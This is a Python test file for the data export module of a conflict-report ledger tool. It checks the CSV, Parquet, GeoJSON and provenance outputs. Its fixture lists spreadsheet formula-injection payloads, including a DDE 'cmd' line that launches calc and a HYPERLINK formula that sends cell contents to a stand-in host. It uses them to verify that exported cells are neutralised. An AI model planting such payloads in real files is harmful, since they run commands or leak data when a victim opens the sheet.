"""The ledger handed on: every form says what the ledger says, the same each time, and is there wholly or not at all."""

import csv
import hashlib
import io
import json
import os
import random
import re
import resource
import subprocess
import sys
import time
import unicodedata
from dataclasses import fields, replace
from itertools import pairwise
from pathlib import Path

import pytest

from exports import handed, objects, of, rows, told
from hudna.cli import hudna
from hudna.errors import BadQuestion, CannotExport
from hudna.ledger.captures import wordings_of
from hudna.ledger.entries import entries_in
from hudna.ledger.filters import Filters
from hudna.ledger.store import Ledger
from hudna.publish.exports import handing
from hudna.publish.exports.csv_sheet import CsvSheet, disarmed, exact, safe_sheet
from hudna.publish.exports.described import RECORD
from hudna.publish.exports.fields import Field, Kind
from hudna.publish.exports.forms import FORMS, USUAL
from hudna.publish.exports.handing import Asked, hand_on, line_pages
from hudna.publish.exports.line import Line, Spot
from hudna.publish.exports.shapes import drawn_as, shape_of
from hudna.publish.exports.sheet import Extra

EVERY = tuple(FORMS)
NUMBER = re.compile(r"-?\d+(?:\.\d+)?")
LIVE = "=+-@|%"
STRINGS = 10_000


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Ledger:
    return told(tmp_path_factory.mktemp("handed") / "hudna.db")


@pytest.fixture(scope="module")
def folder(ledger: Ledger, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return handed(ledger, tmp_path_factory.mktemp("handed") / "out")


def hashes(folder: Path) -> dict[str, str]:
    return {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.iterdir()}


def strings() -> list[str]:
    """Strings that would like to be formulas, and others, the same every time."""
    chance = random.Random(20201101)
    heads = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u00a0=",
        "\u200b=",
        "\ufeff=",
        "\u200f=",
        "＝",
        "＋",
        "－",
        "＠",
        "−",
        "%",
        "|",
    ]
    tails = [
        'cmd|" /C calc"!A0',
        'HYPERLINK("http://x/?"&A1)',
        "SUM(1;1)",
        "2+3",
        "-36.20",
        "نزوح",
        '"',
        "'",
        ";=1",
        ",=1",
        "\t@x",
        '";=1+1;"',
    ]
    letters = "ab=+-@;,|%'\"\t\r\n 0123456789نزوحـ\u200e\u202e\u2066\u00a0\u3000．，"
    made = [head + tail for head in heads for tail in tails]
    while len(made) < STRINGS:
        made.append("".join(chance.choices(letters, k=chance.randint(0, 12))))
    return made


def could_run(cell: str) -> bool:
    """Whether a spreadsheet could take a cell, or what it takes for one, for a formula."""
    for piece in re.split(r"[;,\t\"\r\n]", cell):
        seen = (letter for letter in piece if not letter.isspace() and unicodedata.category(letter)[0] not in "CZ")
        if unicodedata.normalize("NFKC", next(seen, "x")) in (*LIVE, "\u2212"):
            return True
    return False


def test_no_cell_of_a_table_for_spreadsheets_is_a_live_formula() -> None:
    words: list[str] = []
    columns = (
        Field("words", Kind.STRING, "", lambda _: words[0]),
        Field("longitude", Kind.NUMBER, "", lambda _: -36.2),
        Field("last", Kind.STRING, "", lambda _: words[0]),
    )
    out = io.BytesIO()
    sheet = safe_sheet(out, columns, Extra())
    for one in strings():
        words[:] = [one]
        sheet.add(None, "")  # type: ignore[arg-type]  # the columns look at no line
    read = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    assert len(read) == STRINGS + 1
    for row in read[1:]:
        assert row[1] == "-36.2", "a negative longitude stays a number"
        assert not could_run(row[0]) and not could_run(row[2]), row
        assert "\n" not in row[0] and "\r" not in row[0]
    # The checker itself sees what it has to see.
    assert could_run("=1") and could_run(" \u200f＝1") and could_run("a;=1") and not could_run("'=1")
    assert disarmed("نزوح من إدلب") == "نزوح من إدلب"


@pytest.mark.parametrize("worst", [" ", "; ", ";", "\u200b\u00a0", "'", "\t\n", "-", "; ;\u200f"])
def test_long_cells_take_no_time(worst: str) -> None:
    began = time.process_time()
    assert not could_run(disarmed(worst * (100_000 // len(worst))))
    assert time.process_time() - began < 1.0, "most of it is the checker's own"


def test_the_exact_table_holds_every_string_as_it_is() -> None:
    words: list[str] = []
    out = io.BytesIO()
    columns = (Field("words", Kind.STRING, "", lambda _: words[0]), Field("n", Kind.INTEGER, "", lambda _: 1))
    sheet = CsvSheet(out, columns, exact, hxl=False)
    for one in strings():
        words[:] = [one]
        sheet.add(None, "")  # type: ignore[arg-type]  # the columns look at no line
    read = list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))
    assert [row[0] for row in read[1:]] == strings()


def test_the_same_ledger_gives_the_same_bytes(ledger: Ledger, tmp_path: Path) -> None:
    pytest.importorskip("pyarrow", reason="pip install 'hudna[parquet]'")
    first, second = (hashes(handed(ledger, tmp_path / name, forms=EVERY)) for name in ("one", "two"))
    assert first == second and len(first) > 15


def test_pages_of_any_size_give_the_same_bytes(
    ledger: Ledger, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(handing, "PAGE", 3)
    assert hashes(handed(ledger, tmp_path / "small")) == hashes(folder)


def test_tables_hold_every_entry_once(ledger: Ledger, folder: Path) -> None:
    ids = [entry.id for entry in entries_in(ledger)]
    assert [row["entry"] for row in rows(folder / "entries.csv")] == ids
    assert [row["entry"] for row in rows(folder / "entries.exact.csv")] == ids
    assert [one["entry"] for one in map(json.loads, (folder / "record.jsonl").read_text("utf-8").splitlines())] == ids
    assert [feature["id"] for feature in objects(folder / "map.geojson")["features"]] == ids
    promised = next(row for row in rows(folder / "entries.exact.csv") if row["commitment"] == "true")
    assert (promised["debtor"], promised["debtor_id"], promised["status"]) == ("قواتها", "TUR-MIL", "announced")
    assert promised["source_label"] == "Turkish armed forces"


def test_parquet_holds_what_the_exact_table_holds(ledger: Ledger, folder: Path, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="pip install 'hudna[parquet]'")
    table = parquet.read_table(handed(ledger, tmp_path / "out", forms=("parquet",)) / "entries.parquet")
    plain = rows(folder / "entries.exact.csv")
    assert table.column("entry").to_pylist() == [row["entry"] for row in plain]
    assert table.column("latitude").to_pylist() == [
        float(row["latitude"]) if row["latitude"] else None for row in plain
    ]
    assert table.column("negated").to_pylist() == [row["negated"] == "true" for row in plain]


def test_parquet_says_what_it_needs(ledger: Ledger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(handing, "find_spec", lambda name: None)
    with pytest.raises(CannotExport, match=r"pip install 'hudna\[parquet\]'"):
        handed(ledger, tmp_path / "out", forms=("parquet",))
    assert not (tmp_path / "out").exists()


def test_a_vague_place_is_an_area_and_an_open_one_has_no_shape(folder: Path) -> None:
    shapes = {
        (feature["properties"]["place"], (feature["geometry"] or {}).get("type"), feature["properties"]["drawn_as"])
        for feature in objects(folder / "map.geojson")["features"]
    }
    assert ("مدينة أريحا", "Point", "the place") in shapes
    assert ("ريف إدلب الجنوبي", "Polygon", "rough circle, no boundary") in shapes
    assert ("سوريا", None, "nothing: a whole country or sea") in shapes
    assert ("مورك", None, "nothing: the place is open") in shapes
    for feature in objects(folder / "map.geojson")["features"]:
        told_of = feature["properties"]
        assert feature["geometry"] is None or told_of["where_prec"], "no bare dot: its precision is said"


def test_a_circle_is_closed_and_turns_against_the_clock(ledger: Ledger) -> None:
    line = next(iter(line_pages(ledger, Asked())))[0]
    spot = Spot("قرب", None, id="1", lat=-12.5, lon=-70.25, where_prec=2, reach_km=10.0)
    shape = shape_of(replace(line, spots=(spot,)))
    assert shape is not None
    ring = shape["coordinates"][0]
    assert ring[0] == ring[-1] and sum((b[0] - a[0]) * (b[1] + a[1]) for a, b in pairwise(ring)) < 0
    both = replace(line, spots=(spot, replace(spot, where_prec=1), replace(spot, where_prec=1, lon=-70.0)))
    collected = shape_of(both)
    assert collected is not None and [one["type"] for one in collected["geometries"]] == ["Point", "Point"]
    assert drawn_as(both) == "the place"


def test_annotations_quote_the_words_that_stand_there(ledger: Ledger, folder: Path) -> None:
    texts = wordings_of(ledger, [entry.origin.id for entry in entries_in(ledger)])
    reports = {entry.id: entry.origin.id for entry in entries_in(ledger)}
    items = objects(folder / "annotations.jsonld")["items"]
    roles = set()
    for item in items:
        text = texts[reports[item["id"].removeprefix("urn:hudna:entry:")]]
        for target in item["target"]:
            position, quote = target["selector"]
            start, end = position["start"], position["end"]
            assert text[start:end] == quote["exact"] and quote["exact"]
            assert text[:start].endswith(quote["prefix"]) and text[end:].startswith(quote["suffix"])
            roles.add(target["role"])
    assert {"trigger", "actor", "place", "source", "cue", "content", "time", "count"} <= roles


def test_provenance_leads_from_every_entry_to_its_capture(ledger: Ledger, folder: Path) -> None:
    graph = {node["@id"]: node for node in objects(folder / "provenance.jsonld")["@graph"]}
    for row in rows(folder / "entries.exact.csv"):
        entry = graph[f"urn:hudna:entry:{row['entry']}"]
        capture = graph[entry["prov:wasDerivedFrom"]["@id"]]
        assert capture["hudna:sha256"] == row["capture"]
        assert graph[entry["prov:wasGeneratedBy"]["@id"]]["prov:used"]["@id"] == capture["@id"]
        path = ledger.beside.evidence / row["capture"][:2] / row["capture"]
        assert hashlib.sha256(path.read_bytes()).hexdigest() == row["capture"]


def test_event_tables_hold_what_the_other_collections_have_a_type_for(folder: Path) -> None:
    acled, plover = rows(folder / "acled.exact.csv"), rows(folder / "plover.exact.csv")
    assert {row["event_type"] for row in acled} >= {"Battles", "Explosions/Remote violence"}
    assert {row["event_date"] for row in acled} == {"", "2020-10-31"}, "no date is taken from the day of publication"
    assert not any(row["event_id_cnty"].startswith("C") for row in acled), "a promise is no event"
    denied = next(row for row in plover if row["auxiliary_modes"])
    assert denied["event_type"] == "RETREAT"
    assert {row["auxiliary_modes"] for row in plover} == {"", "negation", "future"}


def test_a_happening_told_twice_is_one_event_of_acled(tmp_path: Path) -> None:
    from ledgers import ledger_of

    text = "قصفت قوات النظام مدينة أريحا يوم 1 تشرين الثاني 2020 وقالت مصادر محلية إن القصف طال السوق في المدينة صباحا."
    ledger = ledger_of(tmp_path / "hudna.db", ("a", "2020-11-02", text), ("b", "2020-11-02", text))
    folder = handed(ledger, tmp_path / "out")
    shelled = [row for row in rows(folder / "entries.exact.csv") if row["action"] == "violence.shell"]
    assert {row["reports"] for row in shelled} >= {"2"}, "the two reports are one story"
    events = [row for row in rows(folder / "acled.exact.csv") if row["sub_event_type"].startswith("Shelling")]
    assert len(events) == len({row["happening"] for row in shelled}) < len(shelled)


def test_each_file_has_a_codebook_that_tells_every_column(folder: Path) -> None:
    for form in USUAL:
        for file in FORMS[form].files:
            told_of = {row["name"] for row in rows(folder / file.codebook)}
            assert {field.name for field in file.fields} <= told_of
            assert all(row["meaning"] for row in rows(folder / file.codebook))
    assert list(RECORD) == [field.name for field in fields(Line)]
    assert "inter1" in (folder / "acled.codebook.csv").read_text("utf-8"), "what is missing is said"


def test_the_package_says_what_is_there(folder: Path) -> None:
    package = objects(folder / "datapackage.json")
    there = {path.name for path in folder.iterdir()} - {"datapackage.json"}
    assert {one["path"] for one in package["resources"]} == there
    names = [one["name"] for one in package["resources"]]
    assert len(set(names)) == len(names) and all(re.fullmatch(r"[a-z0-9._-]+", name) for name in names)
    for one in package["resources"]:
        content = (folder / one["path"]).read_bytes()
        assert (one["bytes"], one["hash"]) == (len(content), f"sha256:{hashlib.sha256(content).hexdigest()}")
        if "schema" in one:
            with (folder / one["path"]).open(encoding="utf-8-sig", newline="") as file:
                assert [field["name"] for field in one["schema"]["fields"]] == next(csv.reader(file))


def test_hashtags_stand_under_the_names(ledger: Ledger, tmp_path: Path) -> None:
    folder = handed(ledger, tmp_path / "out", forms=("csv",), extra=Extra(hxl=True))
    first = rows(folder / "entries.csv")[0]
    assert (first["latitude"], first["action"], first["confidence"]) == ("#geo+lat", "#event+type", "")
    tables = [one for one in objects(folder / "datapackage.json")["resources"] if "schema" in one]
    assert all(one["dialect"] == {"commentRows": [2]} for one in tables)


def test_filters_cut_an_export(ledger: Ledger, tmp_path: Path) -> None:
    folder = handed(ledger, tmp_path / "out", forms=("csv",), register="violence", filters=Filters(place="172994"))
    assert {row["action"] for row in rows(folder / "entries.csv")} == {"violence.shell", "violence.kill"}
    about = objects(folder / "datapackage.json")["hudna"]
    assert (about["register"], about["filters"]) == ("violence", {"place": "172994"})


def test_what_is_there_is_left_alone(ledger: Ledger, folder: Path) -> None:
    before = hashes(folder)
    with pytest.raises(CannotExport, match="there already"):
        hand_on(ledger, Asked(), folder)
    assert hashes(folder) == before
    with pytest.raises(CannotExport, match="is not there; make it first"):
        hand_on(ledger, Asked(), folder / "no" / "such")
    with pytest.raises(BadQuestion, match="no such form; there are csv"):
        hand_on(ledger, Asked(forms=("xml",)), folder.parent / "xml")


@pytest.mark.parametrize("room", [0, 100, 3_000, 9_000])
def test_a_full_disk_leaves_nothing(ledger: Ledger, tmp_path: Path, room: int) -> None:
    command = [sys.executable, "-m", "hudna.cli", "--ledger", str(ledger.address), "export", str(tmp_path / "out")]
    with (
        ledger.reading() as connection
    ):  # so that what SQLite keeps beside the ledger while it is read is there already
        connection.exec_driver_sql("SELECT count(*) FROM reports")
        done = subprocess.run(
            command,
            capture_output=True,
            text=True,
            check=False,
            env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (room, room)),
        )
    assert done.returncode == 1 and "the disk is full; nothing was written" in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_what_is_added_meanwhile_is_not_in_it(tmp_path: Path) -> None:
    from hudna.ledger.snapshot import snapshot
    from ledgers import ledger_of

    ledger = told(tmp_path / "hudna.db")
    before = len(entries_in(ledger))
    with snapshot(ledger) as moment:
        assert len(entries_in(moment)) == before
        ledger_of(ledger.address, ("r9", "2020-11-09", "قصفت قوات النظام مدينة أريحا."))
        assert len(entries_in(moment)) == before
    assert len(entries_in(ledger)) > before


def test_the_command_says_what_it_wrote(ledger: Ledger, tmp_path: Path) -> None:
    from click.testing import CliRunner

    out = str(tmp_path / "out")
    done = CliRunner().invoke(
        hudna, ["--ledger", str(ledger.address), "export", out, "--form", "csv", "--form", "acled"]
    )
    assert done.exit_code == 0 and "entries.csv" in done.output and "entries in 8 files" in done.output
    again = CliRunner().invoke(hudna, ["--ledger", str(ledger.address), "export", out])
    assert again.exit_code == 1 and "there already; take it away or name another folder" in again.output
    wrong = CliRunner().invoke(hudna, ["--ledger", str(ledger.address), "export", out + "2", "--register", "x"])
    assert wrong.exit_code == 2 and "no such register" in wrong.output


def test_the_command_knows_every_form() -> None:
    from hudna.commands.handing_on import FORMS as OFFERED

    assert tuple(FORMS) == OFFERED


def test_a_denial_is_told_as_one(ledger: Ledger, folder: Path) -> None:
    denied = next(entry for entry in of(ledger, "force.withdraw") if entry.negated)
    row = next(row for row in rows(folder / "entries.exact.csv") if row["entry"] == denied.id)
    assert (row["negated"], row["act"], row["denied"]) == ("true", "deny", "1")
